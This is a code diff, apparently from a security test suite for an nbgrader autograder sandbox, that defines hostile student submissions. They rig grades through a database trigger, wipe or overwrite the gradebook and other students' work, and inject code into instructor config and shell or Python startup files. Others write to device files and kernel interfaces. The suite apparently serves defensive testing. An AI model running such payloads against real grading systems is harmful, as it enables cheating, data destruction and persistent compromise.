@@ -15,7 +15,9 @@ roots = [root for root in roots if (root / "gradebook.db").exists() or str(root)
 def own_grade(entry: Entry) -> None:
     """Writes its own grade into the gradebook, and has the database write it again."""
     guess(entry)
-    entry.answer(area=ROOTS + """
+    entry.answer(
+        area=ROOTS
+        + """
 for root in roots:
     try:
         with sqlite3.connect(root / "gradebook.db", timeout=2) as db:
@@ -24,13 +26,16 @@ for root in roots:
                        "begin update grade set auto_score = 99 where id = new.id; end")
     except sqlite3.Error as error:
         print(error)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def gradebook_of_all(entry: Entry) -> None:
     """Empties the gradebook, locks it, and writes over its file."""
-    entry.answer(area=ROOTS + """
+    entry.answer(
+        area=ROOTS
+        + """
 for root in roots:
     try:
         db = sqlite3.connect(root / "gradebook.db", timeout=1)
@@ -42,56 +47,68 @@ for root in roots:
         (root / "gradebook.db").write_bytes(b"x" * 4096)
     except OSError as error:
         print(error.strerror)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def others_submissions(entry: Entry) -> None:
     """Deletes what the others handed in, and what was graded and released."""
-    entry.answer(area=ROOTS + """
+    entry.answer(
+        area=ROOTS
+        + """
 for root in roots:
     for name in ("submitted", "autograded", "feedback", "release"):
         for path in (root / name).glob("*"):
             if path.name != NAME:
                 shutil.rmtree(path, ignore_errors=True)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def others_answers(entry: Entry) -> None:
     """Writes its own notebook over those of the others."""
-    entry.answer(area=ROOTS + """
+    entry.answer(
+        area=ROOTS
+        + """
 for root in roots:
     for path in root.glob("submitted/*/*/*.ipynb"):
         try:
             path.write_text("{}")
         except OSError as error:
             print(error.strerror)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def settings(entry: Entry) -> None:
     """Adds a line to nbgrader_config.py that the instructor's next command runs."""
-    entry.answer(area=ROOTS + """
+    entry.answer(
+        area=ROOTS
+        + """
 for path in [*(root / "nbgrader_config.py" for root in roots), Path.home() / "x.py"]:
     try:
         with path.open("a") as file:
             file.write(f"\\nopen({OUTSIDE!r} + '/owned', 'w').close()\\n")
     except OSError as error:
         print(error.strerror)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def start_up_files(entry: Entry) -> None:
     """Leaves files that Python, IPython, Jupyter and the shell run at their next start."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import os, site, sys
 from pathlib import Path
 line = f"open({OUTSIDE!r} + '/owned', 'w').close()\\n"
 home = Path.home()
-files = [home / ".jupyter/nbgrader_config.py", home / ".jupyter/jupyter_config.py", home / ".bashrc",
+files = [home / ".jupyter/nbgrader_config.py", home / ".jupyter/jupyter_config.py",
+         home / ".bashrc",
          home / ".ipython/profile_default/startup/00.py", Path(COURSE) / "sitecustomize.py",
          home / ".local/share/jupyter/kernels/python3/kernel.json", Path.cwd() / "owned.pth",
          *(Path(folder) / "owned.pth" for folder in sys.path if folder.startswith("/"))]
@@ -103,13 +120,15 @@ for path in files:
     except OSError as error:
         print(error.strerror)
 os.environ["PYTHONSTARTUP"] = str(home / ".bashrc")
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def files_outside(entry: Entry) -> None:
     """Writes, deletes, renames and changes files outside of the course."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import os, shutil
 from pathlib import Path
 outside = Path(OUTSIDE)
@@ -128,13 +147,15 @@ for action in (
         action()
     except OSError as error:
         print(error.strerror)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def links_to_outside(entry: Entry) -> None:
     """Puts links where the grader will write: its notebook, its folder, its temporary files."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import glob, os, tempfile
 from pathlib import Path
 here = Path.cwd()
@@ -151,13 +172,15 @@ for path in (here.with_name("gone"),):
         os.symlink(OUTSIDE, here)
     except OSError as error:
         print(error.strerror)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(HARM)
 def devices(entry: Entry) -> None:
     """Writes to disks, memory and terminals, and makes devices of its own."""
-    entry.answer(area="""
+    entry.answer(
+        area="""
 import glob, os, stat
 for path in ("/dev/mem", "/dev/kmsg", "/dev/tty", "/dev/console", "/proc/sysrq-trigger",
              "/proc/sys/kernel/core_pattern", "/sys/power/state", "/dev/shm/atk-" + NAME,
@@ -172,7 +195,8 @@ for kind in (stat.S_IFCHR, stat.S_IFBLK):
         os.mknod("device", kind | 0o666, os.makedev(1, 1))
     except OSError as error:
         print(error.strerror)
-area = 0""")
+area = 0"""
+    )
 
 
 @attack(POINTS)
